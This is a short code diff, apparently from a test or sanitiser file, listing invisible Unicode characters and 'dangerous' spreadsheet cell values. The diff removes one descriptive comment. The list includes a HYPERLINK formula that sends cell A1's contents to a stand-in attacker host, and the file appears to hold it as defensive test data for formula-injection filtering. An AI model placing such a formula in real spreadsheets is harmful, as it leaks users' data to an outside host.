@@ -47,7 +47,6 @@ const BLANKS = [
   ...'\u00ad\u034f\u061c\u115f\u180e\u200b\u200d\u200e\u202e\u2060\u2066\u2800\u3164\ufe0f\ufeff\uffa0\u{e0020}\ufff9',
 ]
 
-/** Cell values that a spreadsheet would run or misread. */
 const DANGEROUS = [
   '=1+1',
   '=HYPERLINK("https://evil.example?"&A1,"click")',
